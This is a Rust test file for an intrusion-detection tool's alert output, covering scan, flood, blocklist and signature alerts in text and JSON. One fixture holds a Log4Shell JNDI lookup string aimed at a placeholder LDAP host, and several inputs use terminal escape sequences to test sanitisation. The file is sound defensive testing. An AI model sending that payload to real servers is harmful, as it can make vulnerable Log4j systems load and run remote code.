//! How every rule is told: text and JSON, of both versions of IP, in all states.

use core::net::IpAddr;
use std::sync::Arc;

use netwatch_common::Proto;

use super::*;
use crate::analysis::detail::{Hosts, Listed, Listing, Matched, Signature};
use crate::analysis::{Detail, Digest};

fn ip(text: &str) -> IpAddr {
    text.parse().unwrap()
}

/// A /64, with the only host that was seen of it.
fn v6(network: &str, host: Option<&str>) -> Option<Peer> {
    Some(Peer { addr: ip(network), bits: 64, host: host.map(ip) })
}

fn dests(count: u8) -> DestSummary {
    let mut dests = DestSummary::default();
    (1..=count).for_each(|last| dests.add(IpAddr::from([192, 0, 2, last])));
    dests
}

fn evidence(class: Class, count: u64) -> [u64; Class::COUNT] {
    let mut evidence = [0; Class::COUNT];
    evidence[class as usize] = count;
    evidence
}

fn listed() -> Listed {
    let listing = Listing {
        feed: "example-drop".into(),
        entry: "203.0.113.0/24".into(),
        comment: "EX4711\u{1b}[2J".into(),
        tags: vec!["botnet".into()],
    };
    Listed {
        listing: Arc::new(listing),
        inbound: 2,
        outbound: 3,
        bytes: 412,
        begun: 1,
        contacted: true,
        hosts: Hosts::one(ip("192.0.2.5")),
        service: Some((Proto::Tcp, 443)),
        first_ns: 1,
        last_ns: 2 * SECOND,
        ..Listed::default()
    }
}

fn matched() -> Matched {
    let signature = Signature {
        id: "log4shell.jndi".into(),
        name: "Log4Shell lookup in an HTTP request".into(),
        reference: "https://nvd.nist.gov/vuln/detail/CVE-2021-44228".into(),
        attack_id: "T1190".into(),
    };
    Matched {
        signature: Arc::new(signature),
        proto: Proto::Tcp,
        source_port: 40000,
        dest: ip("192.0.2.5"),
        dest_port: 8080,
        outgoing: false,
        excerpt: (*b"GET /?x=${jndi:ldap://203.0.113.7/a} HTTP/1.1\r\n\x1b[2J\"").into(),
        dests: Hosts::one(ip("192.0.2.5")),
        flows: 1,
        first_ns: 1,
        last_ns: 1,
    }
}

/// What an incident of a rule looks like when it opens.
pub(in crate::sinks) fn example(rule: RuleId) -> Transition {
    let unit = rule.rule().unit;
    let base = Transition {
        rule,
        unit,
        severity: rule.rule().severity,
        weight: Severity::High,
        threshold: rule.rule().threshold,
        ports: PortSummary::default(),
        techniques: Techniques::NONE,
        spoofable: false,
        ..scan(State::Open)
    };
    let to = Transition { source: None, dest: Some(ip("192.0.2.5")), ..base.clone() };
    let told = match rule {
        RuleId::ScanVertical => Transition {
            observed: 11,
            ports: ports(1..=11),
            dests: dests(1),
            evidence: evidence(Class::Syn, 11),
            techniques: Techniques::SYN,
            spoofable: true,
            ..base
        },
        RuleId::ScanStealth => Transition {
            observed: 4,
            source: v6("2001:db8::", Some("2001:db8::9")),
            ports: ports([22, 80, 443, 8080]),
            evidence: evidence(Class::Stealth, 4),
            techniques: Techniques::FIN.union(Techniques::XMAS),
            spoofable: true,
            ..base
        },
        RuleId::ScanHorizontal => Transition {
            observed: 254,
            port: Some(22),
            dests: dests(254),
            evidence: evidence(Class::Syn, 254),
            techniques: Techniques::SYN,
            ..base
        },
        RuleId::ScanSweepIcmp => Transition {
            observed: 254,
            proto: None,
            dests: dests(254),
            evidence: evidence(Class::IcmpProbe, 254),
            techniques: Techniques::ECHO,
            ..base
        },
        RuleId::ScanSlow => Transition {
            observed: 12,
            window_ns: 3_600 * SECOND,
            proto: Some(Proto::Udp),
            ports: ports(50..62),
            dests: dests(2),
            evidence: evidence(Class::UdpNew, 12),
            techniques: Techniques::UDP,
            ..base
        },
        RuleId::ScanDistributed => Transition {
            observed: 61,
            window_ns: 600 * SECOND,
            sources: 25,
            ports: ports(1..=61),
            evidence: evidence(Class::Syn, 75),
            techniques: Techniques::SYN,
            ..to
        },
        RuleId::DosUnsolicited => Transition {
            observed: 5200,
            proto: None,
            source: v6("2001:db8::", None),
            ports: ports([53]),
            evidence: evidence(Class::UdpNew, 5200),
            ..base
        },
        RuleId::DosPackets => {
            Transition { observed: 5200, proto: None, evidence: evidence(Class::Known, 5200), ..base }
        }
        RuleId::DosRate => Transition {
            observed: 1_200_000_000,
            unit: "bits/s",
            threshold: 1_000_000_000,
            window_ns: 5 * SECOND,
            proto: None,
            evidence: evidence(Class::Known, 500_000),
            ..base
        },
        RuleId::DdosDestination => Transition {
            observed: 65_000,
            sources: 1200,
            window_ns: 5 * SECOND,
            proto: None,
            evidence: evidence(Class::UdpNew, 325_000),
            spoofable: true,
            ..to
        },
        RuleId::FloodSyn => Transition {
            observed: 900,
            sources: 800,
            dest: Some(ip("2001:db8::5")),
            port: Some(443),
            evidence: evidence(Class::Syn, 900),
            spoofable: true,
            ..to
        },
        RuleId::FloodFragment => Transition {
            observed: 3000,
            sources: 7,
            window_ns: 5 * SECOND,
            proto: None,
            evidence: evidence(Class::Fragment, 15_000),
            degraded: true,
            ..to
        },
        RuleId::PortHammer => {
            Transition { observed: 31, port: Some(22), evidence: evidence(Class::Syn, 31), ..base }
        }
        RuleId::PortUnusual => Transition {
            observed: 1,
            port: Some(4444),
            dests: dests(1),
            evidence: evidence(Class::Known, 9),
            ..base
        },
        RuleId::IocIp => Transition {
            observed: 5,
            proto: None,
            severity: Severity::High,
            detail: Some(Arc::new(Detail::Listed(listed()))),
            ..base
        },
        RuleId::PayloadMatch => Transition {
            observed: 1,
            proto: None,
            detail: Some(Arc::new(Detail::Matched(matched()))),
            ..base
        },
        RuleId::Degraded => Transition {
            observed: 12,
            proto: None,
            dest: None,
            window_ns: 5 * SECOND,
            degraded: true,
            evidence: [0; Class::COUNT],
            packets: 0,
            bytes: 0,
            ..to
        },
    };
    Transition { peak: told.observed, ..told }
}

/// The same with the other version of IP.
fn on_the_other_ip(t: &Transition) -> Transition {
    let source = t.source.map(|peer| match peer.addr {
        IpAddr::V4(_) => Peer { addr: ip("2001:db8:0:7::"), bits: 64, host: Some(ip("2001:db8:0:7::9")) },
        IpAddr::V6(_) => Peer { addr: ip("203.0.113.7"), bits: 32, host: None },
    });
    let dest = t.dest.map(|dest| if dest.is_ipv4() { ip("2001:db8::5") } else { ip("192.0.2.5") });
    Transition { source, dest, ..t.clone() }
}

/// `UPDATE=1 cargo test -p netwatch --lib sinks` writes what is said now; read the difference before committing.
#[test]
fn every_rule_is_told_in_a_line() {
    let mut told = String::new();
    for rule in RuleId::ALL {
        let open = example(rule);
        let other = on_the_other_ip(&open);
        let end = |t: &Transition, state| Transition { state, observed: 0, ..t.clone() };
        for (t, format) in [
            (open.clone(), Format::Text),
            (other.clone(), Format::Text),
            (end(&open, QUIET), Format::Text),
            (end(&other, SHUTDOWN), Format::Text),
            (end(&open, State::Close(CloseReason::Disabled)), Format::Text),
            (open.clone(), Format::Json),
            (end(&other, QUIET), Format::Json),
        ] {
            let line = render(&t, format, false);
            assert_eq!(line.matches('\n').count(), 1, "{line}");
            told.push_str(&line);
        }
        told.push('\n');
    }
    // Where packets are kept, the line says where, whatever its rule.
    for rule in [RuleId::ScanVertical, RuleId::PayloadMatch] {
        let evidence_file = Some("/var/lib/netwatch/\u{1b}[2J/7f3a-1-1.pcapng".into());
        for state in [State::Open, State::Update, QUIET] {
            let t = Transition { state, evidence_file: evidence_file.clone(), ..example(rule) };
            told.push_str(&render(&t, Format::Text, false));
            told.push_str(&render(&t, Format::Json, false));
        }
    }
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/src/sinks/tests/lines.txt");
    if std::env::var_os("UPDATE").is_some() {
        std::fs::write(path, &told).unwrap();
    }
    let expect = std::fs::read_to_string(path).unwrap_or_default();
    for (told, expect) in told.lines().zip(expect.lines()) {
        assert_eq!(told, expect);
    }
    assert_eq!(told.lines().count(), expect.lines().count());
}

#[test]
fn hostile_names_stay_within_their_line() {
    for rule in RuleId::ALL {
        let t = Transition { interface: "\x1b[2J\u{9b}\"\n\0".into(), ..example(rule) };
        for format in [Format::Text, Format::Json] {
            let line = render(&t, format, false);
            let (line, end) = line.split_at(line.len() - 1);
            assert!(end == "\n" && !line.contains(|c: char| c.is_control() && c != '\u{9b}'), "{line}");
            assert!(format == Format::Json || line.contains(" on ?[2J?\"??"), "{line}");
        }
    }
}

#[test]
fn malformed_packets_are_no_losses() {
    let t = Transition { unit: "malformed packets", observed: 300, ..example(RuleId::Degraded) };
    let line = render(&t, Format::Text, false);
    assert!(
        line.contains(" netwatch was sent 300 malformed packets in 5 s on eth0 (threshold 0);"),
        "{line}"
    );
    let one = Transition { observed: 1, ..example(RuleId::Degraded) };
    assert!(render(&one, Format::Text, false).contains(" netwatch lost 1 count in 5 s "));
    assert!(render(&one, Format::Json, false).contains("netwatch.degraded: 1 loss in 5 s"));
}

fn digest() -> Digest {
    let mut openings = [0; RuleId::COUNT];
    openings[RuleId::ScanVertical as usize] = 860;
    openings[RuleId::DosUnsolicited as usize] = 20;
    Digest { at_ns: 11 * SECOND, cap: 100, weight: Severity::Medium, openings, updates: 12 }
}

#[test]
fn a_digest_says_what_was_held_back() {
    let check = |digest: Digest, format, colour, expect: &str| {
        let mut out = Vec::new();
        renderer(format, colour).render_digest(&digest, &mut out).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), format!("{expect}\n"));
    };
    check(
        digest(),
        Format::Text,
        false,
        "2026-11-21T02:50:11Z DIGEST   880 openings and 12 updates held back in the last minute, over 100 a minute: \
         scan.vertical 860, dos.unsolicited 20; they are told as room comes",
    );
    check(
        Digest { openings: [0; RuleId::COUNT], updates: 1, ..digest() },
        Format::Text,
        true,
        "2026-11-21T02:50:11Z \x1b[36mDIGEST\x1b[0m   1 update held back in the last minute, over 100 a minute; they are \
         told as room comes",
    );
    check(
        digest(),
        Format::Json,
        false,
        "{\"timestamp\":\"2026-11-21T02:50:11.123456+0000\",\"event_type\":\"alert\",\"alert\":{\"action\":\"allowed\",\
         \"gid\":1,\"signature_id\":9000900,\"rev\":1,\"signature\":\"NETWATCH netwatch.digest: 880 openings and 12 \
         updates held back in 60 s\",\"category\":\"Misc activity\",\"severity\":3,\"context\":{\"rule\":\"netwatch.digest\",\
         \"severity\":\"low\",\"cap\":100,\"openings\":{\"scan.vertical\":860,\"dos.unsolicited\":20},\"updates\":12}}}",
    );
}

#[test]
fn a_digest_weighs_as_much_as_what_it_is_about() {
    for (min_severity, lines, left_out) in
        [(Severity::Info, 1, 0), (Severity::Low, 1, 0), (Severity::Medium, 1, 0), (Severity::High, 0, 1)]
    {
        let mut output =
            Output::new(Vec::new(), renderer(Format::Text, false)).with_min_severity(min_severity);
        output.digest(&digest()).unwrap();
        assert_eq!(output.not_printed(Severity::Medium), left_out);
        assert_eq!(output.into_stream().iter().filter(|byte| **byte == b'\n').count(), lines);
    }
}
